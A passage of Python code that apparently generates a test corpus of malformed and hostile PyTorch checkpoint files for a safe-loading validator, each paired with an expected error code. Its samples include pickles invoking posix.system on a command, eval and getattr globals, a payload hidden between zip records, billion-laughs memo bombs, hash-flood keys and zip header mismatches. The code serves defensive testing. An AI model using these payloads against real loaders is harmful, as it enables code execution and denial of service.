    pid_case('6-tuple-in-zip', ('storage', FS, '0', 'cpu', 4, None), 'legacy 6-tuple pid inside a zip checkpoint')
    pid_case('empty-key', ('storage', FS, '', 'cpu', 4), "pid key ''", storages={})
    pid_case('key-not-str', ('storage', FS, 0, 'cpu', 4), 'pid key is an int')
    pid_case('numel-negative', ('storage', FS, '0', 'cpu', -4), 'pid numel -4')
    add('v23a-empty-pickle-stop.pth', 'V23', 'EFORMAT', 'data.pkl is a lone STOP', zpkl(P.STOP))
    add('v23b-empty-pickle-zero-bytes.pth', 'V23', 'EFORMAT', 'data.pkl has zero bytes', zpkl(b''))
    add('v24a-codecs-rot13.pth', 'V24', 'OK', "_codecs.encode('x', 'rot13')", zpkl(dumps({'b': Call(Glob('_codecs', 'encode'), ('x', 'rot13'))})))
    add('v24b-codecs-utf8.pth', 'V24', 'OK', "_codecs.encode('x', 'utf-8'): b'x' (torch emits latin1; UTF-8 encodes as Python does)",
        zpkl(dumps({'b': Call(Glob('_codecs', 'encode'), ('x', 'utf-8'))})))
    add('v25-bytearray-int.pth', 'V25', 'ELIMIT', 'builtins.bytearray(8000000000) via REDUCE (8 GB zero fill, above the 1 GiB heap limit)',
        zpkl(dumps({'b': Call(Glob('__builtin__', 'bytearray'), (8000000000,))})))
    add('v26-dunder-state.pth', 'V26', 'EUNSAFE', "_rebuild_parameter_with_state with state {'__class__': builtins.object}",
        torch_zip(dumps({'p': Call(Glob('torch._utils', '_rebuild_parameter_with_state'),
                                   (tensor('0', size=(4,), stride=(1,)), True, od(), {'__class__': Glob('builtins', 'object')}))})))


def gen_t():
    def tz(obj, storages=None, **kw):
        return torch_zip(dumps(obj), storages={'0': DATA0} if storages is None else storages, **kw)

    def sd(key='0', **kw):
        return od([('weight', tensor(key, **kw))])
    add('t01a-numel-exceeds-record.pth', 'T01', 'EFORMAT', 'persid numel 32 (128 bytes) with a 16-byte data/0', tz(sd(numel=32, size=(32,), stride=(1,))))
    add('t01b-numel-below-record.pth', 'T01', 'EFORMAT', 'persid numel 2 (8 bytes) with a 16-byte data/0 (record must be exactly numel*4)',
        tz(sd(numel=2, size=(2,), stride=(1,))))
    add('t02-numel-mul-overflow.pth', 'T02', 'EFORMAT', 'numel 0x4000000000000001 FloatStorage (numel*4 wraps to 4) over a 4-byte record',
        tz(sd(numel=0x4000000000000001, size=(1,), stride=(1,)), storages={'0': f32(1.0)}))
    add('t03-shape-product-overflow.pth', 'T03', 'EFORMAT', 'size (2^32, 2^32, 2) stride (2^33, 2, 1) over a 4-element storage',
        tz(sd(size=(1 << 32, 1 << 32, 2), stride=(1 << 33, 2, 1))))
    add('t04a-negative-size.pth', 'T04', 'EFORMAT', 'size (-1,)', tz(sd(size=(-1,), stride=(1,))))
    add('t04b-negative-stride.pth', 'T04', 'EFORMAT', 'size (4,) stride (-1,) offset 3', tz(sd(offset=3, size=(4,), stride=(-1,))))
    add('t04c-negative-offset.pth', 'T04', 'EFORMAT', 'storage_offset -4 (BININT)', tz(sd(offset=-4, size=(4,), stride=(1,))))
    d10 = {'0': f32(*range(10))}
    add('t05-view-oob-offset.pth', 'T05', 'EFORMAT', 'storage numel 10, offset 1, size (10,), stride (1,): one element past the end',
        tz(sd(numel=10, offset=1, size=(10,), stride=(1,)), storages=d10))
    add('t06-view-oob-stride.pth', 'T06', 'EFORMAT', 'size (2,2) stride (4,1) over 4 elements', tz(sd(size=(2, 2), stride=(4, 1))))
    add('t07-empty-tensor-huge-offset.pth', 'T07', 'EFORMAT', 'size (0,), offset 2^62 (offset must be <= numel even for empty tensors)',
        tz(sd(offset=1 << 62, size=(0,), stride=(1,))))
    add('t09a-wrong-storage-class-evil.pth', 'T09', 'EUNSAFE', 'persid storage slot holds GLOBAL torch.EvilStorage', tz(sd(storage='EvilStorage')))
    add('t09b-wrong-storage-class-ordereddict.pth', 'T09', 'EFORMAT', 'persid storage slot holds the allowlisted collections.OrderedDict',
        tz(od([('weight', tensor(pid_obj=PersId(('storage', Glob('collections', 'OrderedDict'), '0', 'cpu', 4)), size=(4,), stride=(1,)))])))
    add('t09c-wrong-storage-class-dtype.pth', 'T09', 'EFORMAT', 'persid storage slot holds the allowlisted dtype torch.float32',
        tz(od([('weight', tensor(pid_obj=PersId(('storage', Glob('torch', 'float32'), '0', 'cpu', 4)), size=(4,), stride=(1,)))])))
    add('t10-missing-record.pth', 'T10', 'EFORMAT', "persid key '7' with no data/7 record", tz(sd(key='7'), storages={}))
    add('t11-orphan-record.pth', 'T11', 'EFORMAT', 'extra data/9 record that no tensor references', tz(z0_obj(), storages={'0': DATA0, '9': DATA0}))
    add('t12-bad-byteorder.pth', 'T12', 'EFORMAT', "byteorder record 'middle'", tz(z0_obj(), byteorder=b'middle'))
    add('t13a-bad-version-abc.pth', 'T13', 'EFORMAT', "version record 'abc'", tz(z0_obj(), version=b'abc'))
    add('t13b-bad-version-99999.pth', 'T13', 'EFORMAT', "version record '99999' (supported 1..10)", tz(z0_obj(), version=b'99999\n'))
    sp = Call(Glob('torch._utils', '_rebuild_sparse_tensor'),
              (Call(Glob('torch.serialization', '_get_layout'), ('torch.sparse_csr',)),
               (tensor('0', storage='LongStorage', numel=3, size=(3,), stride=(1,)),
                tensor('1', storage='LongStorage', numel=1, size=(1,), stride=(1,)),
                tensor('2', storage='FloatStorage', numel=1, size=(1,), stride=(1,)),
                Call(Glob('torch', 'Size'), ((2, 1048576),)))))
    add('t14-sparse-csr-lie.pth', 'T14', 'EUNSUPPORTED', 'CSR tensor whose crow_indices claim 1,048,576 nnz over 1-element col/values (sparse is refused)',
        tz(sp, storages={'0': struct.pack('<3q', 0, 1048576, 1048576), '1': struct.pack('<q', 0), '2': f32(1.0)}), verdict='malformed')
    t15 = Call(Glob('torch', 'Tensor'), (), newobj=True,
               state=(PersId(('storage', Glob('torch', 'FloatStorage'), '0', 'cpu', 4)), 0, (1000,), (1,)))
    add('t15-tensor-newobj-build.pth', 'T15', 'EUNSUPPORTED', 'NEWOBJ torch.Tensor + BUILD (storage, 0, (1000,), (1,)) over 4 elements: legacy set_ path refused',
        tz({'t': t15}), verdict='malformed')
    # legacy stream metadata
    add('t16-legacy-count-mismatch.pth', 'T16', 'EFORMAT', 'legacy: in-file int64 count 8 for a storage declared with numel 4',
        legacy_stream(data=[(8, f32(0.0, 1.0, 2.0, 3.0)), (3, b'\x00\x3c' * 3)]))
    k = LEGACY_KEYS[0]
    bomb = legacy_stream(obj={'w': tensor(k, numel=1 << 28, size=(1 << 28,), stride=(1,), legacy=True)}, keys=[k], data=[])
    add('t17-legacy-numel-bomb.pth', 'T17', 'EFORMAT', 'legacy (%d bytes): FloatStorage numel 2^28 and no data (no allocation before proof)' % len(bomb), bomb)
    view_pid = PersId(('storage', Glob('torch', 'FloatStorage'), k, 'cpu', 4, ('v', 100, 50)))
    add('t18-legacy-view-oob.pth', 'T18', 'EFORMAT', "legacy 6-tuple with view_metadata ('v', 100, 50) over a 4-element root",
        legacy_stream(obj={'w': tensor(pid_obj=view_pid, size=(4,), stride=(1,))}, keys=[k], data=[(4, f32(0, 1, 2, 3))]))
    add('t19a-legacy-keys-undeclared.pth', 'T19', 'EFORMAT', 'legacy key list names a key no storage declared',
        legacy_stream(keys=list(LEGACY_KEYS) + ['999'], data=legacy_data() + [(1, f32(0))]))
    add('t19b-legacy-keys-repeated.pth', 'T19', 'EFORMAT', 'legacy key list repeats a key',
        legacy_stream(keys=[LEGACY_KEYS[0], LEGACY_KEYS[0], LEGACY_KEYS[1]],
                      data=[legacy_data()[0], legacy_data()[0], legacy_data()[1]]))
    add('t19c-legacy-keys-missing.pth', 'T19', 'EFORMAT', 'legacy key list omits a declared storage',
        legacy_stream(keys=[LEGACY_KEYS[0]], data=[legacy_data()[0]]))
    add('t19d-legacy-keys-not-str.pth', 'T19', 'EFORMAT', 'legacy key list holds an int',
        legacy_stream(keys_pkl=dumps([int(LEGACY_KEYS[0]), LEGACY_KEYS[1]])))
    add('t19e-legacy-keys-not-list.pth', 'T19', 'OK', 'legacy key list is a tuple', legacy_stream(keys_pkl=dumps(tuple(LEGACY_KEYS))))
    add('t20f-legacy-trailing-byte.pth', 'T20', 'EFORMAT', 'legacy stream with one byte after the last storage', legacy_stream(tail=b'\x00'))
    add('t20g-legacy-storage-past-eof.pth', 'T20', 'EFORMAT', 'legacy stream whose last storage ends 2 bytes past EOF', legacy_stream()[:-2])
    add('t20a-legacy-bad-magic.pth', 'T20', 'ENOTZIP', 'first pickle is LONG1 0x1950A86A20F9469CFC6D (magic + 1): not a legacy stream',
        legacy_stream(magic=dumps(0x1950A86A20F9469CFC6D)))
    add('t20b-legacy-protocol-1000.pth', 'T20', 'EFORMAT', 'legacy protocol pickle 1000', legacy_stream(proto=dumps(1000)))
    add('t20c-legacy-sys-info-missing.pth', 'T20', 'EFORMAT', 'legacy stream without the sys_info pickle',
        LEGACY_MAGIC + LEGACY_PROTO + dumps(legacy_obj()) + dumps(list(LEGACY_KEYS))
        + b''.join(struct.pack('<q', c) + r for c, r in legacy_data()))
    add('t20d-legacy-sys-info-not-dict.pth', 'T20', 'OK', 'legacy sys_info pickle is a list (ignored, as torch ignores it)', legacy_stream(sysinfo=dumps([1001])))
    add('t20e-legacy-truncated-after-protocol.pth', 'T20', 'EFORMAT', 'legacy stream that ends after the protocol pickle', LEGACY_MAGIC + LEGACY_PROTO)


def gen_a():
    add('a01-minimal-zip.pth', 'A01', 'OK', 'Z0: torch 2.6 layout, one (2,2) float32 tensor', torch_zip(Z0_PKL))
    a02 = od([('a', tensor('0', size=(2, 2), stride=(2, 1))), ('at', tensor('0', size=(2, 2), stride=(1, 2)))])
    add('a02-shared-storage-views.pth', 'A02', 'OK', 'two tensors on key 0: (2,2) stride (2,1) and its transpose stride (1,2)', torch_zip(dumps(a02)))
    a03 = od([('empty', tensor('0', numel=0, size=(0, 4), stride=(4, 1))),
              ('scalar', tensor('1', storage='LongStorage', numel=1, size=(), stride=()))])
    add('a03-empty-and-scalar.pth', 'A03', 'OK', 'shapes (0,4) over a 0-byte record and () over a 1-element LongStorage',
        torch_zip(dumps(a03), storages={'0': b'', '1': struct.pack('<q', 42)}))
    a04 = od([('p', Call(Glob('torch._utils', '_rebuild_parameter'), (tensor('0', size=(2, 2), stride=(2, 1)), True, od())))])
    add('a04-parameter.pth', 'A04', 'OK', '_rebuild_parameter(tensor, True, OrderedDict()) inside the state dict', torch_zip(dumps(a04)))
    a05 = {'int': 7, 'big': 1 << 70, 'neg': -5, 'i16': 40000, 'i32': -100000, 'float': 0.25, 'true': True, 'false': False,
           'none': None, 'str': 'h\u00e9llo', 'bytes': Bytes(b'\x00\xffabc'), 'list': [1, [2, [3, (4, 5, 6, 7)]], ()],
           'tuple': (1, 'a', None), 'nested': {'a': {'b': {'c': [0.5, -0.5]}}}}
    add('a05-primitives.pth', 'A05', 'OK', 'nested dict/list/tuple of int (BININT1/2/BININT/LONG1), BINFLOAT, bool, None, str, latin1 bytes',
        zpkl(dumps(a05)))
    add('a06-custom-prefix.pth', 'A06', 'OK', "Z0 with archive prefix 'model' instead of 'archive'", torch_zip(Z0_PKL, prefix='model'))
    add('a07-zip64-records.pth', 'A07', 'OK', 'Z0 with a zip64 extra in every local and central header (force_zip64)', torch_zip(Z0_PKL, zip64=True))
    a08 = od([('\u00e9t\u00e9.poids', tensor('0', size=(2, 2), stride=(2, 1))), ('\u91cd\u307f.\U0001f600', tensor('0', size=(4,), stride=(1,)))])
    add('a08-utf8-keys.pth', 'A08', 'OK', 'state-dict keys with valid non-ASCII UTF-8 (2, 3 and 4-byte sequences)', torch_zip(dumps(a08)))
    add('a09-legacy-ok.pth', 'A09', 'OK', "well-formed legacy stream {'w': arange(4.), 'h': ones(3, float16)}", legacy_stream())
    a10 = od([('weight', tensor('0', size=(2, 2), stride=(2, 1))),
              ('h', tensor('1', storage='HalfStorage', numel=3, size=(3,), stride=(1,)))])
    add('a10-big-endian-mark.pth', 'A10', 'OK', "byteorder 'big' with byte-swapped float32 and float16 data",
        torch_zip(dumps(a10), byteorder=b'big',
                  storages={'0': struct.pack('>4f', 1.0, 2.0, 3.0, 4.0), '1': struct.pack('>3e', 1.0, 1.0, 1.0)}))
    items, st = [], {}
    for i in range(1000):
        items.append(('layer%d.weight' % i, tensor(str(i), numel=2, size=(2,), stride=(1,))))
        st[str(i)] = f32(float(i), float(-i))
    meta = od([('', {'version': 1})] + [('layer%d' % i, {'version': 1}) for i in range(1000)])
    add('a11-many-tensors-memo.pth', 'A11', 'OK', '1,000 tensors with torch-style BINGET/LONG_BINGET reuse and a _metadata BUILD',
        torch_zip(dumps(od(items, state={'_metadata': meta})), storages=st))
    add('a12-torch27-records.pth', 'A12', 'OK', 'Z0 plus the 2.7 records .format_version and .storage_alignment', torch_zip(Z0_PKL, fmt27=True))


def bad_legacy_obj():
    o = legacy_obj()
    o['x'] = Call(Glob('posix', 'system'), (CMD,))
    return o


def gen_p():
    z0st = {'0': DATA0}

    def pz(slug, pid_, expect, why, obj=None, pkl=None, storages=None, **kw):
        data = torch_zip(pkl if pkl is not None else dumps(obj), storages=z0st if storages is None else storages, **kw)
        add('%s-%s.pth' % (pid_.lower(), slug), pid_, expect, why, data)

    def sd(key='0', **kw):
        return od([('weight', tensor(key, **kw))])
    # P1: no undefined behaviour on extreme integers
    pz('numel-huge-long1', 'P1', 'EFORMAT', 'persid numel is a 255-byte LONG1', sd(numel=1 << 2000, size=(4,), stride=(1,)))
    pz('size-beyond-int64', 'P1', 'EFORMAT', 'size (2^64,) does not fit int64', sd(size=(1 << 64,), stride=(1,)))
    pz('stride-int64-min', 'P1', 'EFORMAT', 'stride (-2^63,)', sd(size=(2,), stride=(-(1 << 63),)))
    pz('offset-int64-max', 'P1', 'EFORMAT', 'storage_offset 2^63-1 with size (1,)', sd(offset=(1 << 63) - 1, size=(1,), stride=(1,)))
    pz('extent-sum-overflow', 'P1', 'EFORMAT', 'size (2,2) stride (2^62, 2^62): offset + extent overflows int64',
       sd(size=(2, 2), stride=(1 << 62, 1 << 62)))
    pz('ndim-65', 'P1', 'EFORMAT', '65 dimensions of size 1 (limit 64)', sd(size=(1,) * 65, stride=(1,) * 65))
    pz('size-stride-length-mismatch', 'P1', 'EFORMAT', 'size has 2 entries, stride 1', sd(size=(2, 2), stride=(1,)))
    pz('size-holds-float', 'P1', 'EFORMAT', 'size (4.0,)', sd(size=(4.0,), stride=(1,)))
    pz('offset-is-none', 'P1', 'EFORMAT', 'storage_offset None', sd(offset=None, size=(4,), stride=(1,)))
    pz('untyped-partial-element', 'P7', 'EFORMAT', 'uint16 tensor of 2 elements over a 3-byte UntypedStorage',
       od([('u', tensor('0', storage='UntypedStorage', storage_module='torch.storage', numel=3, size=(2,), stride=(1,),
                        fn='_rebuild_tensor_v3', extra=(Glob('torch', 'uint16'),)))]), storages={'0': b'\x01\x00\x02'})
    pz('same-key-two-classes', 'P7', 'EFORMAT', "key '0' used as FloatStorage and as IntStorage",
       od([('a', tensor('0', size=(4,), stride=(1,))), ('b', tensor('0', storage='IntStorage', size=(4,), stride=(1,)))]))
    pz('same-key-two-numels', 'P7', 'EFORMAT', "key '0' declared with numel 4 and numel 2",
       od([('a', tensor('0', size=(4,), stride=(1,))), ('b', tensor('0', numel=2, size=(2,), stride=(1,)))]))
    pz('zero-stride-oob-offset', 'P7', 'EFORMAT', 'size (1000,) stride (0,) offset 4 over 4 elements', sd(offset=4, size=(1000,), stride=(0,)))
    # P2: memory and time bounded
    big = bytes(1 << 20)
    comp = deflate(big)
    ents = torch_ents(dumps(sd(size=(4,), stride=(1,))), storages={'0': b''})
    ents[2] = Ent('archive/data/0', b'', method=8, payload=comp, usize=16, crc=zlib.crc32(DATA0))
    add('p2-deflate-longer-than-declared.pth', 'P2', 'EFORMAT', 'data/0 declares 16 bytes but its deflate stream inflates to 1 MiB', build_zip(ents)[0])
    ents = torch_ents(dumps(sd(size=(4,), stride=(1,))), storages={'0': b''})
    ents[2] = Ent('archive/data/0', b'', method=8, payload=deflate(DATA0[:8]), usize=16, crc=zlib.crc32(DATA0))
    add('p2-deflate-shorter-than-declared.pth', 'P2', 'EFORMAT', 'data/0 declares 16 bytes but its deflate stream ends after 8', build_zip(ents)[0])
    nput = (1 << 20) + 1
    memo_pkl = (P.PROTO + b'\x02' + P.EMPTY_LIST + b''.join(P.LONG_BINPUT + struct.pack('<I', i) for i in range(nput)) + P.STOP)
    ents = torch_ents(memo_pkl, storages={}, method=8)
    add('p2-memo-over-limit.pth', 'P2', 'ELIMIT', '%d distinct LONG_BINPUT indices (limit 1<<20), data.pkl deflated' % nput, build_zip(ents)[0])
    # hash flooding: ints whose hashes, as ptc hashed keys before its dict indexes were seeded,
    # agree in their low 32 bits, so that every insertion walked the whole index (3 s at 30000)
    def unmix(h):
        m, c = (1 << 64) - 1, 0xff51afd7ed558ccd
        h ^= h >> 33
        h = (h * pow(c, -1, 1 << 64)) & m
        h ^= h >> 33
        return h - (1 << 64) if h >= 1 << 63 else h
    flood = dumps({'d': {unmix(j << 32): 1 for j in range(1, 30001)}})
    add('p2-dict-hash-flood.pth', 'P2', 'OK', '30000 int keys chosen to collide in an unseeded '
        'index (quadratic insertion), data.pkl deflated',
        build_zip(torch_ents(flood, storages={}, method=8))[0])
    # 30000 NaN keys: no two are equal, and hashed by their bits they all shared one chain
    # (Python hashes a NaN by its identity)
    nans = {'d': dict((float('nan'), i) for i in range(30000))}
    add('p2-dict-nan-keys.pth', 'P2', 'OK', '30000 NaN keys, each its own (quadratic in one hash '
        'chain), data.pkl deflated', build_zip(torch_ents(dumps(nans), storages={}, method=8))[0])
    # billion laughs through the memo (no DUP): level k+1 = [level k, level k]; n levels are n+1
    # shared nodes that a copying reader (or a naive walk) expands to 2^(n+1) - 1
    def laughs(levels):
        b = P.PROTO + b'\x02'
        for i in range(levels):  # L(levels) (memo 0) ... L1 (memo levels-1), each opened with a MARK
            b += P.EMPTY_LIST + P.BINPUT + bytes([i]) + P.MARK
        b += P.EMPTY_LIST + P.BINPUT + bytes([levels])  # L0
        for i in range(levels):  # the first Lk is already on the stack, the second is a BINGET
            b += P.BINGET + bytes([levels - i]) + P.APPENDS
        return b + P.STOP
    add('v10b-memo-laughs.pth', 'V10', 'ELIMIT', '30 levels of lists holding the previous level twice through BINGET: '
        '31 shared nodes that expand to 2^31 - 1 (above max_objects 1<<24)', zpkl(laughs(30)))
    add('p2-memo-sharing-ok.pth', 'P2', 'OK', '10 levels of lists holding the previous level twice: 11 shared nodes, '
        '2047 once expanded (sharing alone is not refused)', zpkl(laughs(10)))
    add('p2-nesting-900-ok.pth', 'P2', 'OK', '900 nested lists (under the depth limit of 1,000)',
        zpkl(P.PROTO + b'\x02' + P.EMPTY_LIST * 901 + P.APPEND * 900 + P.STOP))
    add('p5-bytearray-negative.pth', 'P5', 'EFORMAT', 'builtins.bytearray(-1)', zpkl(dumps({'b': Call(Glob('builtins', 'bytearray'), (-1,))})))
    add('p2-binunicode-4g.pth', 'P2', 'EFORMAT', 'BINUNICODE length 0xFFFFFFFF with 1 byte left', zpkl(P.PROTO + b'\x02' + P.BINUNICODE + b'\xff\xff\xff\xffa'))
    add('p2-legacy-binunicode-lie.pth', 'P2', 'EFORMAT', 'legacy stream whose object pickle has a BINUNICODE length of 2 GiB',
        legacy_stream(obj_pkl=P.PROTO + b'\x02' + P.BINUNICODE + struct.pack('<I', 0x7FFFFFFF) + b'xx'))
    # P3: opcode subset covered by V16; a subset opcode with a wrong argument
    add('p3-binfloat-truncated.pth', 'P3', 'EFORMAT', 'BINFLOAT cut short (5 of 8 bytes) at the end', zpkl(P.PROTO + b'\x02' + P.BINFLOAT + b'\x00' * 5))
    # P4: exact global allowlist
    for slug, m, nme, why in (
            ('suffix', 'torch._utils', '_rebuild_tensor_v2x', 'allowlisted name plus a suffix'),
            ('case', 'Torch._utils', '_rebuild_tensor_v2', 'module name in a different case'),
            ('trailing-space', 'torch._utils', '_rebuild_tensor_v2 ', 'allowlisted name with a trailing space'),
            ('py3-builtins-eval', 'builtins', 'eval', 'builtins.eval'),
            ('builtin-getattr', '__builtin__', 'getattr', '__builtin__.getattr (maps to builtins.getattr)'),
            ('sys-modules', 'sys', 'modules', 'sys module is always blocked'),
            ('posixpath-join', 'posixpath', 'join', 'os.path under its real module name'),
            ('nested-njt', 'torch.nested._internal.nested_tensor', 'NestedTensor', 'NJT class (torch puts it in its user allowlist on import; not in the default policy)'),
            ('storage-load-from-bytes', 'torch.storage', '_load_from_bytes', 'torch.storage._load_from_bytes (nested torch.load)'),
            ('nul-in-name', 'torch._utils', '_rebuild_tensor_v2\x00x', 'allowlisted name followed by NUL and more bytes'),
            ('torch-load', 'torch', 'load', 'torch.load'),
            ('collections-defaultdict', 'collections', 'defaultdict', 'collections.defaultdict (a neighbour of OrderedDict)'),
            ('builtins-dict', 'builtins', 'dict', 'builtins.dict (not in torch 2.6 allowlist)'),
    ):
        add('p4-global-%s.pth' % slug, 'P4', 'EUNSAFE', 'GLOBAL %s: %s' % ((m + '.' + nme).encode('unicode_escape').decode(), why),
            zpkl(P.PROTO + b'\x02' + op_global(m, nme) + P.EMPTY_TUPLE + P.REDUCE + P.STOP))
    pz('payload-as-dict-value', 'P9', 'EUNSAFE', 'a valid state dict whose second value is posix.system(cmd)',
       od([('weight', tensor('0', size=(4,), stride=(1,))), ('x', Call(Glob('posix', 'system'), (CMD,)))]))
    # P5: callables restricted to their shapes
    T = tensor
    pz('rebuild-v2-5-args', 'P5', 'EFORMAT', '_rebuild_tensor_v2 with 5 arguments',
       {'t': Call(Glob('torch._utils', '_rebuild_tensor_v2'), (pid('0'), 0, (4,), (1,), False))})
    pz('rebuild-v2-8-args', 'P5', 'EFORMAT', '_rebuild_tensor_v2 with 8 arguments', {'t': T('0', size=(4,), stride=(1,), extra=({}, 1))})
    pz('rebuild-v2-metadata-not-dict', 'P5', 'EFORMAT', '_rebuild_tensor_v2 metadata argument is a list', {'t': T('0', size=(4,), stride=(1,), extra=([1],))})
    add('p5-ordereddict-args.pth', 'P5', 'EFORMAT', 'collections.OrderedDict(1, 2, 3)',
        zpkl(dumps({'o': Call(Glob('collections', 'OrderedDict'), (1, 2, 3))})))
    add('p5-size-of-str.pth', 'P5', 'EFORMAT', "torch.Size('abc')", zpkl(dumps({'s': Call(Glob('torch', 'Size'), ('abc',))})))
    add('p5-device-of-float.pth', 'P5', 'EFORMAT', 'torch.device(1.5)', zpkl(dumps({'d': Call(Glob('torch', 'device'), (1.5,))})))
    add('p5-set-of-int.pth', 'P5', 'EFORMAT', 'builtins.set(1)', zpkl(dumps({'s': Call(Glob('__builtin__', 'set'), (1,))})))
    add('p5-complex-of-str.pth', 'P5', 'EFORMAT', "builtins.complex('1+2j')", zpkl(dumps({'c': Call(Glob('__builtin__', 'complex'), ('1+2j',))})))
    add('p5-codecs-not-latin1-encodable.pth', 'P5', 'EFORMAT', "_codecs.encode('\\u0100', 'latin1') cannot be encoded",
        zpkl(dumps({'b': Call(Glob('_codecs', 'encode'), ('\u0100', 'latin1'))})))
    add('p5-codecs-one-arg.pth', 'P5', 'OK', "_codecs.encode('x') without a codec", zpkl(dumps({'b': Call(Glob('_codecs', 'encode'), ('x',))})))
    pz('parameter-of-int', 'P5', 'EFORMAT', '_rebuild_parameter(1, True, OrderedDict())',
       {'p': Call(Glob('torch._utils', '_rebuild_parameter'), (1, True, od()))}, storages={})
    add('p5-reduce-on-str.pth', 'P5', 'EFORMAT', 'REDUCE whose callable is a str',
        zpkl(P.PROTO + b'\x02' + op_str('posix.system') + P.EMPTY_TUPLE + P.REDUCE + P.STOP))
    add('p5-reduce-on-dtype.pth', 'P5', 'EFORMAT', 'REDUCE calling the dtype torch.float32 (a dtype is not callable)',
        zpkl(dumps({'x': Call(Glob('torch', 'float32'), ())})))
    add('p5-reduce-on-storage-class.pth', 'P5', 'EUNSUPPORTED', 'REDUCE calling torch.FloatStorage(1000000000)',
        zpkl(dumps({'x': Call(Glob('torch', 'FloatStorage'), (1000000000,))})))
    pz('reduce-on-tensor', 'P5', 'EFORMAT', 'REDUCE whose callable is a rebuilt tensor',
       pkl=P.PROTO + b'\x02' + dumps(T('0', size=(4,), stride=(1,)), proto=False)[:-1] + P.EMPTY_TUPLE + P.REDUCE + P.STOP)
    pz('qtensor', 'P5', 'EUNSUPPORTED', '_rebuild_qtensor (quantized tensors are refused)',
       {'q': Call(Glob('torch._utils', '_rebuild_qtensor'),
                  (pid('0', 'QUInt8Storage', 4), 0, (4,), (1,), (Glob('torch', 'per_tensor_affine'), 0.5, 0), False, od()))},
       storages={'0': b'\x01\x02\x03\x04'})
    add('p5-meta-tensor.pth', 'P5', 'EUNSUPPORTED', '_rebuild_meta_tensor_no_storage(float32, (4,), (1,), False)',
        zpkl(dumps({'m': Call(Glob('torch._utils', '_rebuild_meta_tensor_no_storage'), (Glob('torch', 'float32'), (4,), (1,), False))})))
    pz('nested-tensor', 'P5', 'EUNSUPPORTED', '_rebuild_nested_tensor(buffer, sizes, strides, offsets)',
       {'n': Call(Glob('torch._utils', '_rebuild_nested_tensor'),
                  (T('0', size=(4,), stride=(1,)), T('1', storage='LongStorage', numel=2, size=(2, 1), stride=(1, 1)),
                   T('2', storage='LongStorage', numel=2, size=(2, 1), stride=(1, 1)), T('3', storage='LongStorage', numel=2, size=(2,), stride=(1,))))},
       storages={'0': DATA0, '1': struct.pack('<2q', 2, 2), '2': struct.pack('<2q', 1, 1), '3': struct.pack('<2q', 0, 2)})
    add('p5-wrapper-subclass-tensor.pth', 'P5', 'EUNSUPPORTED', '_rebuild_wrapper_subclass with the allowlisted class torch.Tensor',
        zpkl(dumps({'w': Call(Glob('torch._utils', '_rebuild_wrapper_subclass'),
                               (Glob('torch', 'Tensor'), Glob('torch', 'float32'), (4,), (1,), 0, None,
                                Call(Glob('torch', 'device'), ('meta',)), False))})))
    pz('device-from-cpu-tensor', 'P5', 'EUNSUPPORTED', "_rebuild_device_tensor_from_cpu_tensor(t, float32, 'xla:0', False)",
       {'x': Call(Glob('torch._utils', '_rebuild_device_tensor_from_cpu_tensor'), (T('0', size=(4,), stride=(1,)), Glob('torch', 'float32'), 'xla:0', False))})
    pz('build-on-tensor', 'P5', 'EFORMAT', 'BUILD with a dict state on a rebuilt tensor',
       pkl=P.PROTO + b'\x02' + dumps(T('0', size=(4,), stride=(1,)), proto=False)[:-1] + P.EMPTY_DICT + op_str('a') + op_int(1)
       + P.SETITEM + P.BUILD + P.STOP)
    add('p5-build-on-list.pth', 'P5', 'EFORMAT', 'BUILD on a list', zpkl(P.PROTO + b'\x02' + P.EMPTY_LIST + P.EMPTY_DICT + P.BUILD + P.STOP))
    add('p5-setitem-on-list.pth', 'P5', 'EFORMAT', 'SETITEM on an empty list: index out of range, as torch finds too',
        zpkl(P.PROTO + b'\x02' + P.EMPTY_LIST + op_int(0) + op_int(1) + P.SETITEM + P.STOP))
    add('p5-setitems-on-set.pth', 'P5', 'EUNSAFE', 'SETITEMS whose target is a set',
        zpkl(P.PROTO + b'\x02' + P.EMPTY_SET + P.MARK + op_int(0) + op_int(1) + P.SETITEMS + P.STOP))
    add('p5-setitem-on-str.pth', 'P5', 'EUNSAFE', 'SETITEM whose target is a str',
        zpkl(P.PROTO + b'\x02' + op_str('abc') + op_int(0) + op_str('z') + P.SETITEM + P.STOP))
    # P6: zip ambiguity beyond section 6.2
    def zv(slug, why, ents=None, verdict=None, **kw):
        add('p6-%s.pth' % slug, 'P6', 'EFORMAT', why, zip_variant(ents, **kw)[0], verdict=verdict)
    zv('local-central-name-mismatch', 'local header says archive/datap.kl, central says archive/data.pkl (CVE-2025-1944)',
       set_kw(torch_ents(Z0_PKL), 'data.pkl', local_name=b'archive/datap.kl'))
    zv('local-central-flags-mismatch', 'local flags 0x0808, central flags 0x0809 on data.pkl', set_kw(torch_ents(Z0_PKL), 'data.pkl', cd_flags=0x0809))
    zv('local-central-method-mismatch', 'local method 8, central method 0 on data.pkl', set_kw(torch_ents(Z0_PKL), 'data.pkl', local_method=8))
    zv('descriptor-crc-mismatch', 'data descriptor CRC of data/0 differs from the central CRC (data matches central)',
       set_kw(torch_ents(Z0_PKL), 'data/0', desc_crc=0x12345678))
    zv('local-crc-without-descriptor', 'flag bit 3 clear, local CRC 0 while central CRC is real',
       set_kw(torch_ents(Z0_PKL), 'data/0', flags=0x0800, desc=False, local_crc=0))
    zv('trailing-after-eocd', 'Z0 followed by 100 bytes after the EOCD', tail=b'T' * 100)
    zv('eocd-comment-length-lie', 'EOCD comment length 10 with no comment bytes', eocd_comment_len=10)
    zv('gap-between-records', '64 hidden bytes (a pickle) between data/0 and version',
       set_kw(torch_ents(Z0_PKL), 'data/0', after=payload('posix', 'system').ljust(64, b'\x00')), verdict='unsafe')
    zv('central-offset-wrong', "data/0's central entry points at byteorder's local header",
       set_kw(torch_ents(Z0_PKL), 'data/0', cd_offset=zip_variant()[1]['hdr'][1]))
    zv('eocd-disk-nonzero', 'EOCD disk number 1 (multi-disk)', eocd={'disk': 1}, z64={'disk': 1})
    zv('locator-disks-2', 'zip64 locator says 2 disks', loc={'ndisks': 2})
    zv('cd-size-wrong', 'EOCD central directory size 10 bytes too large', eocd={'cd_size': zip_variant()[1]['z64'] - zip_variant()[1]['cd'] + 10},
       z64={'cd_size': zip_variant()[1]['z64'] - zip_variant()[1]['cd'] + 10})
    zv('zip64-extra-short', 'central sizes 0xFFFFFFFF with a 4-byte zip64 extra', set_kw(torch_ents(Z0_PKL), 'data/0', cd_csize=0xFFFFFFFF,
       cd_usize=0xFFFFFFFF, cd_extra=struct.pack('<HHI', 1, 4, 16)))
